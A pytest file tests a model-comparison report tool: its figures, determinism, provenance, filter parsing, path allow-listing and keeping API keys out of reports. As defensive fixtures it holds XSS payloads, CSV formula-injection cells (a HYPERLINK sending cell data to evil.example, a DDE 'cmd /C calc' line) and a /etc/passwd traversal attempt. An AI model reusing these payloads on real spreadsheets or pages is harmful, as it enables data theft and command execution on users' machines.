"""Reports on real data: figures equal `stats --json` (whole file, and a filtered view against
`stats` on a file of the filtered examples written by the test), determinism, provenance,
escaping, CSV injection, filter expressions, and the allowed folders for links."""

from __future__ import annotations

import csv
import hashlib
import json
import re

import pytest
from conftest import LLMBAR_GPT4, MT_JUDGMENTS, MT_QUESTIONS, ROOT, read_jsonl, run_cli, winner

from comparator.analysis.expr import parse, to_exprs
from comparator.analysis.stats import DEFAULT_CI
from comparator.schema.csvsafe import neutralise

DEMO_MT = ROOT / "data" / "mt_bench_phi-3_vs_phi-3-dpo.jsonl"


def _report_json(tmp_path, *args) -> dict:
    out = tmp_path / f"r{len(list(tmp_path.iterdir()))}.json"
    r = run_cli("report", *args, "-o", out)
    assert r.returncode == 0, r.stderr
    return json.loads(out.read_text())


@pytest.mark.parametrize("args", [
    [MT_JUDGMENTS, "--questions", MT_QUESTIONS, "--by", "category", "--by", "turn"],
    [LLMBAR_GPT4, "--ci", "bootstrap"],
    [LLMBAR_GPT4, "--ci", "wilson", "--by", "judge"],
    [LLMBAR_GPT4, "--judge", "human", "--tie-threshold", "0.5"],
], ids=["mt-bench-slices", "llmbar-bootstrap", "llmbar-wilson", "llmbar-human"])
def test_report_figures_equal_stats_json(tmp_path, args):
    rep = _report_json(tmp_path, *args)
    stats = run_cli("stats", *args, "--json")
    assert stats.returncode == 0, stats.stderr
    assert rep["stats"] == json.loads(stats.stdout)
    assert rep["n_filtered"] == rep["n_total"] == rep["stats"]["n"]


def _score(ex) -> float | None:
    ok = [j["score"] for j in ex.get("judgments") or [] if j.get("status", "ok") == "ok"]
    return sum(ok) / len(ok) if ok else None


def test_filtered_report_equals_stats_on_the_filtered_file(tmp_path):
    """Filters applied by the test itself (score range, word count of A, a category), the kept
    examples written to a native file, and `stats --json` on it."""
    lines = DEMO_MT.read_text().splitlines()
    header, exs = lines[0], [json.loads(x) for x in lines[1:] if x.strip()]
    kept = [ex for ex in exs if (s := _score(ex)) is not None and s >= -0.5
            and len(" ".join(ex["response_a"] if isinstance(ex["response_a"], list)
                             else [ex["response_a"]]).split()) > 150]
    assert 5 < len(kept) < len(exs)
    sub = tmp_path / "sub.jsonl"
    sub.write_text("\n".join([header, *map(json.dumps, kept)]) + "\n")
    rep = _report_json(tmp_path, DEMO_MT, "--filter", "score>=-0.5", "--filter", "a.words>150",
                       "--by", "category")
    assert rep["n_filtered"] == len(kept)
    stats = json.loads(run_cli("stats", sub, "--by", "category", "--json").stdout)
    assert rep["stats"] == stats
    one = _report_json(tmp_path, DEMO_MT, "--filter", "category=writing", "--filter",
                       "score>=-0.5", "--filter", "a.words>150")
    sub_w = tmp_path / "w.jsonl"
    sub_w.write_text("\n".join([header, *(json.dumps(x) for x in kept
                                          if x["category"] == "writing")]) + "\n")
    s_w = json.loads(run_cli("stats", sub_w, "--json").stdout)
    assert one["stats"] == s_w


def test_same_file_same_spec_same_figures(tmp_path):
    args = [DEMO_MT, "--by", "category", "--filter", "winner=A|B", "--examples", "5",
            "--sample", "7"]
    a, b = _report_json(tmp_path, *args), _report_json(tmp_path, *args)
    a["provenance"].pop("created"), b["provenance"].pop("created")
    assert a == b
    other = _report_json(tmp_path, *args[:-1], "8")
    assert [x["id"] for x in other["examples"]] != [x["id"] for x in a["examples"]]
    for fmt in ("html", "md", "csv"):
        outs = []
        for k in range(2):
            out = tmp_path / f"same{k}.{fmt}"
            assert run_cli("report", *args, "-o", out).returncode == 0
            outs.append(re.sub(r"\d{4}-\d\d-\d\dT[\d:]+\+00:00", "T", out.read_text()))
        assert outs[0] == outs[1], fmt


def test_provenance_and_examples(tmp_path):
    rep = _report_json(tmp_path, DEMO_MT, "--filter", "category=math", "--examples", "4",
                       "--judge", "gpt-4")
    p = rep["provenance"]
    assert p["sha256"] == hashlib.sha256(DEMO_MT.read_bytes()).hexdigest()
    assert p["input"] == DEMO_MT.name and p["filters"] == ["category=math"]
    assert p["judges"] == ["gpt-4"] and p["ci_method"] == DEFAULT_CI and p["version"]
    assert "--filter category=math" in p["command"] and "--judge gpt-4" in p["command"]
    exs = {json.loads(x)["id"]: json.loads(x) for x in DEMO_MT.read_text().splitlines()[1:]}
    math = [e for e in exs.values() if e.get("category") == "math"]
    scores = sorted((abs(s) for e in math if (s := _score(e)) is not None), reverse=True)
    shown = rep["examples"]
    assert len(shown) == 4 and all(exs[x["id"]]["category"] == "math" for x in shown)
    assert [abs(x["score"]) for x in shown] == pytest.approx(scores[:4])
    # the command line printed in the report reproduces the figures
    cmd = p["command"].split()
    assert cmd[:4] == ["python", "-m", "comparator", "report"]
    again = _report_json(tmp_path, DEMO_MT, *[c for c in cmd[5:-2]])
    again["provenance"].pop("created"), rep["provenance"].pop("created")
    assert again == rep


EVIL = '<script>window.__pwned=1</script>'


def _evil_file(tmp_path):
    path = tmp_path / "evil.csv"
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["prompt", "response_a", "response_b", "label", "category", "rationale"])
        w.writerow([EVIL, '<img src=x onerror="window.__pwned=2">',
                    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "A",
                    '<b onmouseover=alert(5)>cat</b>', "-2+3+cmd|' /C calc'!A0"])
        w.writerow(["p2", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "B", "plain", "\tx"])
    return path


def test_html_and_markdown_escape_everything(tmp_path):
    src = _evil_file(tmp_path)
    for fmt in ("html", "md"):
        assert run_cli("report", src, "--by", "category", "-o", tmp_path / f"e.{fmt}"
                       ).returncode == 0
    page = (tmp_path / "e.html").read_text()
    assert EVIL not in page and "<img src=x" not in page and "<b onmouseover" not in page
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in page
    md = (tmp_path / "e.md").read_text()
    fences = re.sub(r"(?ms)^(`{3,})text\n.*?\n\1$", "", md)  # code blocks are shown verbatim
    assert "<b" not in fences and "<script" not in fences and "&lt;b onmouseover" in fences


@pytest.mark.parametrize("cell,safe", [
    ('=HYPERLINK("http://evil.example","click")', "'=HYPERLINK(\"http://evil.example\",\"click\")"),
    ("+1+cmd", "'+1+cmd"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-1.5", "-1.5"), ("+2", "+2"), ("1e-3", "1e-3"), ("plain = text", "plain = text"),
    (-1.5, -1.5), (3, 3), (None, None)])
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def test_every_csv_we_write_is_neutralised(tmp_path):
    src = _evil_file(tmp_path)
    assert run_cli("convert", src, "-o", tmp_path / "c.csv").returncode == 0
    assert run_cli("report", src, "-o", tmp_path / "r.csv").returncode == 0
    for name in ("c.csv", "r.csv"):
        with open(tmp_path / name, newline="") as f:
            rows = list(csv.DictReader(f))
        cells = [v for r in rows for v in r.values() if v]
        assert cells and not [v for v in cells if v[0] in "=+-@\t\r"
                              and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", v)]
        assert any(v.startswith("'=HYPERLINK(") for v in cells)
        assert any(v.startswith("'@SUM") for v in cells)
    with open(tmp_path / "r.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["winner"] for r in rows] == ["A", "B"] and rows[1]["score"] == "-1.0"
    assert {"a.words", "b.has_url", "clusters", "index"} <= set(rows[0])


def test_filter_expressions_round_trip_and_errors():
    exprs = ["category=coding", "winner=A|tie", "score>=-0.5", "score<=1", "regex=a|b=c",
             "ngram=i hope", "a.words>200", "b.has_code=1", "cluster=2", "index=3,5"]
    f = parse(exprs)
    assert (f.slice_field, f.slice_value, f.winners) == ("category", "coding", ["A", "tie"])
    assert (f.score_min, f.score_max, f.search, f.regex) == (-0.5, 1.0, "a|b=c", True)
    assert f.metrics == [("a.words", ">", 200.0), ("b.has_code", "==", 1.0)]
    assert parse(to_exprs(f)) == f
    for bad, says in [("nonsense", "expected one of"), ("winner=C", "winner takes"),
                      ("score>1", "score>=x"), ("a.words>many", "not a number"),
                      ("regex=(", "bad regular expression"), ("category>2", "takes '='"),
                      ("index=x", "example numbers")]:
        with pytest.raises(ValueError, match=re.escape(says)) as e:
            parse([bad])
        assert "\n" not in str(e.value)


def test_bad_filter_is_one_line_exit_2(tmp_path):
    for bad in ("winner=C", "nofield=1", "a.nometric>1"):
        r = run_cli("report", DEMO_MT, "--filter", bad, "-o", tmp_path / "x.html")
        assert r.returncode == 2 and r.stderr.count("\n") == 1 and "error:" in r.stderr
        assert not (tmp_path / "x.html").exists()


def test_allowed_path(tmp_path, monkeypatch):
    from comparator.schema.settings import allowed_path

    ok, other = tmp_path / "ok", tmp_path / "other"
    ok.mkdir(), other.mkdir(), (ok / "sub").mkdir()
    secret = other / "secret.jsonl"
    secret.write_text("TOP-SECRET-CONTENT\n")
    inside = ok / "a.jsonl"
    inside.write_text("{}\n")
    (ok / "link.jsonl").symlink_to(secret)
    monkeypatch.setenv("COMPARATOR_DATA_DIRS", f"{ok}{__import__('os').pathsep}{tmp_path / 'x'}")
    assert allowed_path(inside) == inside.resolve()
    assert allowed_path(ok / "sub" / ".." / "a.jsonl") == inside.resolve()
    for bad in (secret, ok / "link.jsonl", ok / ".." / "other" / "secret.jsonl", "/etc/passwd",
                ok / "missing.jsonl", ok):
        with pytest.raises(ValueError) as e:
            allowed_path(bad)
        assert "TOP-SECRET" not in str(e.value) and "root:" not in str(e.value)
    monkeypatch.delenv("COMPARATOR_DATA_DIRS")
    demo = ROOT / "data" / "mt_bench_phi-3_vs_phi-3-dpo.jsonl"
    assert allowed_path(demo) == demo.resolve()  # the app's data/ by default


def test_link_with_path_opens_only_allowed_files(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("COMPARATOR_HOME", str(tmp_path / "home"))
    secret = tmp_path / "secret.jsonl"
    secret.write_text(DEMO_MT.read_text())
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["path"] = str(secret)
    at.run()
    errors = " ".join(e.value for e in at.error)
    assert "not in a folder this server may open" in errors
    assert not any("phi-3" in c.value for c in at.sidebar.caption)  # the default demo instead
    monkeypatch.setenv("COMPARATOR_DATA_DIRS", str(tmp_path))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    for k, v in {"path": str(secret), "slice": "category:writing", "winner": "A|B",
                 "t": "0.5", "metric": "a.words>150;b.words<=10000"}.items():
        at.query_params[k] = v
    at.run()
    assert not at.error
    n = sum(1 for x in read_jsonl(DEMO_MT)[1:] if x.get("category") == "writing"
            and winner(_score(x), 0.5) in ("A", "B")
            and len(" ".join(x["response_a"] if isinstance(x["response_a"], list)
                             else [x["response_a"]]).split()) > 150)
    assert any(c.value.startswith(f"{n} of 75 examples") for c in at.sidebar.caption)
    assert at.session_state["tie_threshold"] == 0.5
    assert at.session_state["flt_winners"] == ["A", "B"]
    qp = {k: at.query_params[k] for k in ("path", "slice", "winner", "t", "metric")}
    assert qp == {"path": str(secret.resolve()), "slice": "category:writing", "winner": "A|B",
                  "t": "0.5", "metric": "a.words>150;b.words<=10000"}  # the view stays


def test_report_page_shows_command_and_figures(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("COMPARATOR_HOME", str(tmp_path / "home"))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["data"] = DEMO_MT.stem
    at.query_params["slice"] = "category:coding"
    at.run()
    at.switch_page("pages/report.py").run()
    assert not at.exception and not at.error
    cmd = next(c.value for c in at.code if c.value.startswith("python -m comparator report"))
    assert "--filter category=coding" in cmd
    args = cmd.split()[4:-2]
    rep = _report_json(tmp_path, ROOT / args[0], *args[1:])
    s = rep["stats"]
    shown = {m.label: m.value for m in at.metric}
    assert shown["A / tie / B"] == f"{s['a_wins']} / {s['ties']} / {s['b_wins']}"
    assert shown["Win rate of A"] == f"{100 * s['win_rate_a']:.1f}%"
    assert [b.label for b in at.get("download_button")] == [
        "HTML (self-contained)", "Markdown", "CSV (filtered examples)", "JSON (every figure)"]


def test_no_report_contains_an_api_key(tmp_path, monkeypatch):
    key = "sk-test-SENTINEL-0123456789"
    env = {"OPENAI_API_KEY": key, "COMPARATOR_API_KEY_A": key, "COMPARATOR_API_KEY_JUDGE": key}
    import os
    import subprocess
    import sys

    for fmt in ("html", "md", "csv", "json"):
        out = tmp_path / f"k.{fmt}"
        r = subprocess.run([sys.executable, "-m", "comparator", "report", str(DEMO_MT), "--by",
                            "category", "-o", str(out)], capture_output=True, text=True,
                           cwd=ROOT, env={**os.environ, **env}, timeout=120)
        assert r.returncode == 0, r.stderr
        assert key not in out.read_text() and key not in r.stderr
